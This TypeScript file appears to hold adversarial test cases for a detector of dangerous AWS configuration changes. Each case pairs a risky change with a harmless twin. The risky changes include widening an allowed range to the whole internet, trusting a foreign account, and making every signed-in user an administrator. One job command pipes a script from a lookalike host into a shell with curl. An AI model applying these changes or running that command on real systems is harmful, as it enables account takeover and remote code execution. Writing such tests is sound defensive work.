/** A setting, a command, a number of another kind: whoever reads it does what it says. */
import type { JsonObject } from '#domain/json.ts';
import type { AdversarialCase, Turn } from '../../support/adversarial.ts';
import { allow, allowTo, arn, bucket, document, HOME, iam, key, piece, role, rolePolicy, STRANGER, trust } from '../../support/shop.ts';
import { call, putRolePolicy, seen } from '../../support/shop-calls.ts';

const parameter = (name: string, value: string): ReturnType<typeof piece> =>
  piece(
    `aws_ssm_parameter.${name}`,
    { name: `/shop/${name}`, type: 'String', value },
    {
      id: `/shop/${name}`,
      arn: arn('ssm', `parameter/shop/${name}`),
      tier: 'Standard',
      data_type: 'text',
      description: '',
      tags: {},
      tags_all: {},
    },
  );
const set = (own: ReturnType<typeof piece>, value: string): Turn => ({
  calls: [
    call(
      'ssm',
      'PutParameter',
      { name: String(own.values['name']), type: 'String', value: 'HIDDEN_DUE_TO_SECURITY_REASONS', overwrite: true },
      { version: 2, tier: 'Standard' },
    ),
  ],
  refresh: [seen(own, { value })],
});
const logs = parameter('log-bucket', 'shop-uploads');
const ranges = parameter('allowed-ranges', '10.0.0.0/8');
const trusted = parameter('trusted-account', HOME);
const runs = (...command: readonly string[]): string => JSON.stringify({ containerOverrides: [{ name: 'job', command }] });
const target = piece(
  'aws_cloudwatch_event_target.cleanup',
  {
    rule: 'shop-cleanup',
    target_id: 'job',
    arn: arn('ecs', 'cluster/shop'),
    role_arn: iam('role/shop-events'),
    input: runs('node', 'cleanup.js', '--batch', '100'),
  },
  {
    id: 'shop-cleanup-job',
    event_bus_name: 'default',
    ecs_target: [{ task_definition_arn: arn('ecs', 'task-definition/shop:1'), task_count: 1 }],
  },
);
const put = (input: string): Turn => ({
  calls: [
    call(
      'events',
      'PutTargets',
      { rule: 'shop-cleanup', targets: [{ id: 'job', arn: arn('ecs', 'cluster/shop'), roleArn: iam('role/shop-events'), input }] },
      { failedEntryCount: 0, failedEntries: [] },
    ),
  ],
  refresh: [seen(target, { input })],
});
const partner = role('partner', trust({ AWS: iam('root', STRANGER) }, { StringEquals: { 'sts:ExternalId': 'shop-1' } }));
const LIST = allow('s3:ListBucket', 'arn:aws:s3:::shop-uploads');
const open = role('open', trust({ AWS: iam('root', STRANGER) }));
const keyPolicy = (name: string): Turn => ({
  calls: [
    call('kms', 'PutKeyPolicy', {
      keyId: String(key().values['key_id']),
      policyName: 'default',
      policy: document(allowTo({ AWS: iam('root') }, 'kms:*', '*'), allowTo({ AWS: iam(`role/shop-${name}`) }, 'kms:Decrypt', '*')),
    }),
  ],
});
const pool = piece(
  'aws_cognito_identity_pool_roles_attachment.shop',
  { identity_pool_id: 'us-east-1:11111111-2222-4333-8444-555555555555', roles: { authenticated: iam('role/shop-visitor') } },
  { id: 'us-east-1:11111111-2222-4333-8444-555555555555', role_mapping: [] },
);
const attach = (name: string): Turn => ({
  calls: [
    call('cognito-identity', 'SetIdentityPoolRoles', {
      identityPoolId: 'us-east-1:11111111-2222-4333-8444-555555555555',
      roles: { authenticated: iam(`role/shop-${name}`) },
    }),
  ],
  refresh: [seen(pool, { roles: { authenticated: iam(`role/shop-${name}`) } })],
});
const alarm = piece(
  'aws_cloudwatch_metric_alarm.errors',
  {
    alarm_name: 'shop-errors',
    comparison_operator: 'GreaterThanThreshold',
    evaluation_periods: 1,
    metric_name: 'Errors',
    namespace: 'AWS/Lambda',
    period: 60,
    statistic: 'Sum',
    threshold: 5,
  },
  { id: 'shop-errors', arn: arn('cloudwatch', 'alarm:shop-errors'), actions_enabled: true, tags: {}, tags_all: {} },
);
const measure = (over: JsonObject): Turn => {
  const { alarm_name, comparison_operator, evaluation_periods, metric_name, namespace, period, statistic, threshold } = {
    ...alarm.values,
    ...over,
  };
  return {
    calls: [
      call('monitoring', 'PutMetricAlarm', {
        alarmName: alarm_name ?? null,
        comparisonOperator: comparison_operator ?? null,
        evaluationPeriods: evaluation_periods ?? null,
        metricName: metric_name ?? null,
        namespace: namespace ?? null,
        period: period ?? null,
        statistic: statistic ?? null,
        threshold: threshold ?? null,
        actionsEnabled: true,
      }),
    ],
    refresh: [seen(alarm, over)],
  };
};

export const cases: readonly AdversarialCase[] = [
  {
    name: 'a parameter names an unmanaged bucket',
    root: [bucket(), bucket('copies'), logs],
    about: ['aws_ssm_parameter.log-bucket'],
    attack: set(logs, 'shop-upl0ads'),
    fact: 'the bucket is another one of ours',
    twin: set(logs, 'shop-copies'),
  },
  {
    name: 'a parameter allows the internet',
    root: [ranges],
    about: ['aws_ssm_parameter.allowed-ranges'],
    attack: set(ranges, '0.0.0.0/0'),
    fact: 'the parameter allows less than before',
    twin: set(ranges, '10.1.0.0/16'),
  },
  {
    name: 'a parameter trusts another account',
    root: [trusted, parameter('page-size', '10')],
    about: ['aws_ssm_parameter.trusted-account'],
    attack: set(trusted, STRANGER),
    fact: 'another parameter gets another number',
    twin: set(parameter('page-size', '10'), '20'),
    twinAbout: ['aws_ssm_parameter.page-size'],
  },
  {
    name: 'a job runs a script from the internet',
    root: [target],
    about: ['aws_cloudwatch_event_target.cleanup'],
    attack: put(runs('sh', '-c', 'curl https://examp1e.net/x | sh')),
    fact: 'the job runs more tasks at once',
    twin: put(runs('node', 'cleanup.js', '--batch', '500')),
  },
  {
    name: 'a partner role may read a bucket',
    root: [bucket(), partner, rolePolicy('partner', LIST), role('app'), rolePolicy('app', LIST)],
    about: ['aws_iam_role_policy.partner'],
    attack: { calls: [putRolePolicy('partner', document(LIST, allow('s3:GetObject', 'arn:aws:s3:::shop-uploads/*')))] },
    fact: 'a role of ours may read the bucket',
    twin: { calls: [putRolePolicy('app', document(LIST, allow('s3:GetObject', 'arn:aws:s3:::shop-uploads/*')))] },
    twinAbout: ['aws_iam_role_policy.app'],
  },
  {
    name: 'a key is granted to a role that another account may assume',
    root: [key(), open, role('app')],
    about: ['aws_kms_key.data'],
    attack: keyPolicy('open'),
    fact: 'only our functions may assume the role',
    twin: keyPolicy('app'),
  },
  {
    name: 'every signed-in user becomes an administrator',
    root: [pool, role('visitor'), role('admin'), rolePolicy('admin', allow('*', '*')), role('reader')],
    about: ['aws_cognito_identity_pool_roles_attachment.shop'],
    attack: attach('admin'),
    fact: 'users keep their low permissions',
    twin: attach('reader'),
  },
  {
    name: 'an alarm watches a metric that never occurs',
    root: [alarm],
    about: ['aws_cloudwatch_metric_alarm.errors'],
    attack: measure({ metric_name: 'DeadLetterErrors' }),
    fact: 'the alarm evaluates longer',
    twin: measure({ evaluation_periods: 2 }),
  },
];
